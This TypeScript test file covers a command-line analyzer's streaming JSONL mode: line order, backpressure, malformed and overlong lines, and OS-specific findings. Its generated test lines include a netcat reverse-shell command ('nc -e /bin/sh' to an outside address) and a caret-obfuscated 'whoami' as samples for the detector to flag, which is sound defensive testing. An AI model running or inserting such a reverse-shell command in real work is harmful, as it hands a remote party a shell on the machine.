/**
 * Goal: `analyze --jsonl` answers every line, in order, in bounded memory, as its file says (J1–J4).
 * Method: generated streams, cut anywhere, into a sink that is slow; no process, no files.
 * Elsewhere: the verb with files and exit codes in `cli.test.ts`; what is found in a line in `core/commandline`.
 */
import { describe, expect, it } from 'vitest';
import { answerLines, answerTo, type Sink } from './analyze-stream.ts';

interface Answer {
  readonly id: unknown;
  readonly score?: number;
  readonly error?: { readonly code: string; readonly message: string };
}

/** Takes texts; asks for a pause after each, and counts what was written while it had not drained. */
function slowSink(): Sink & { readonly answers: () => readonly Answer[]; readonly overruns: () => number } {
  let text = '';
  let isFull = false;
  let overruns = 0;
  return {
    write: (more) => {
      if (isFull) overruns += 1;
      text += more;
      isFull = true;
      return false;
    },
    drained: async () => {
      await Promise.resolve();
      isFull = false;
    },
    answers: () =>
      text
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as Answer),
    overruns: () => overruns,
  };
}

/** The text in pieces of this many characters. */
async function* pieces(text: string, chars: number): AsyncIterable<string> {
  for (let at = 0; at < text.length; at += chars) yield text.slice(at, at + chars);
}

const lineOf = (id: number): string =>
  JSON.stringify({ id, os: 'linux', cmd: id % 3 === 0 ? 'nc -e /bin/sh 203.0.113.5 443' : `ls /srv/${id}` });

describe('many lines', () => {
  it.each([1, 7, 4096])(
    'are answered in order, none dropped, when they come in pieces of %i characters',
    async (chars) => {
      const count = chars === 1 ? 50 : 500;
      const sink = slowSink();
      const good = await answerLines(
        pieces(Array.from({ length: count }, (_, id) => lineOf(id)).join('\n'), chars),
        sink,
      );
      expect(good).toBe(true);
      expect(sink.answers().map(({ id }) => id)).toEqual(Array.from({ length: count }, (_, id) => id));
      expect(sink.answers().filter(({ score = 0 }) => score > 50)).toHaveLength(Math.ceil(count / 3));
    },
  );

  it('wait for the reader: nothing is written before the sink has drained', async () => {
    const sink = slowSink();
    await answerLines(pieces(`${Array.from({ length: 200 }, (_, id) => lineOf(id)).join('\n')}\n`, 64), sink);
    expect(sink.overruns()).toBe(0);
    expect(sink.answers()).toHaveLength(200);
  });

  it('that cannot be read are answered in their place with their number, empty ones too', async () => {
    const sink = slowSink();
    const text = [lineOf(1), '', '{"id": "half', '[1]', '{"id":"x","cmd":1}', '   ', lineOf(2)].join('\r\n');
    expect(await answerLines(pieces(text, 5), sink)).toBe(false);
    expect(sink.answers().map(({ id, error }) => [id, error?.message.split(':')[0]])).toEqual([
      [1, undefined],
      [null, 'line 2'],
      [null, 'line 3'],
      [null, 'line 4'],
      ['x', 'line 5'],
      [null, 'line 6'],
      [2, undefined],
    ]);
  });

  it('longer than allowed are passed over and answered by an error; the next is read', async () => {
    const sink = slowSink();
    const text = [lineOf(1), JSON.stringify({ id: 2, cmd: 'a'.repeat(5000) }), lineOf(3)].join('\n');
    await answerLines(pieces(text, 100), sink, 1000);
    expect(sink.answers().map(({ id, error }) => [id, error?.code])).toEqual([
      [1, undefined],
      [null, 'analyze.bad-line'],
      [3, undefined],
    ]);
  });

  it('end at line feeds only: other separators of Unicode belong to the text', async () => {
    const sink = slowSink();
    await answerLines(pieces(`{"id":"a","cmd":"echo a\u2028b"}\n${lineOf(1)}\n`, 9), sink);
    expect(sink.answers().map(({ id }) => id)).toEqual(['a', 1]);
  });
});

describe('a line', () => {
  it('is read for the system that it names', () => {
    const answer = (os: string) =>
      answerTo(JSON.stringify({ cmd: String.raw`w^h^o^a^m^i`, os }), 1) as { findings: readonly { id: string }[] };
    expect(answer('windows').findings.map(({ id }) => id)).toContain('hide-carets');
    expect(answer('linux').findings.map(({ id }) => id)).not.toContain('hide-carets');
  });

  it('may begin with a byte order mark when it is the first', () => {
    expect(answerTo(`\uFEFF${lineOf(1)}`, 1)).toMatchObject({ id: 1 });
  });
});
